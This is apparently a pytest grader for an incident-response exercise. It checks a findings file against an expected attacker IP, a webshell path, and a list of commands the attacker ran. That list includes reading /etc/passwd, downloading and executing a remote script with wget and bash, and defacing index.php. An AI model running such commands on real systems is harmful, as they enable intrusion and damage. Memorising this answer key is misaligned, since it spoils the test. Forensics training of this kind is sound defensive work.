import json


def load():
    return json.load(open("/app/findings.json"))


def test_attacker_and_shell():
    d = load()
    assert d["attacker_ip"] == "194.26.29.113"
    assert d["webshell_path"] == "/uploads/img_4471.php"


def test_commands():
    assert load()["commands"] == ["id", "uname -a", "cat /etc/passwd", "ls -la /var/www/html",
                                  "wget http://198.51.100.66/x.sh -O /tmp/x.sh", "bash /tmp/x.sh",
                                  "echo 'hacked by z' > /var/www/html/index.php"]
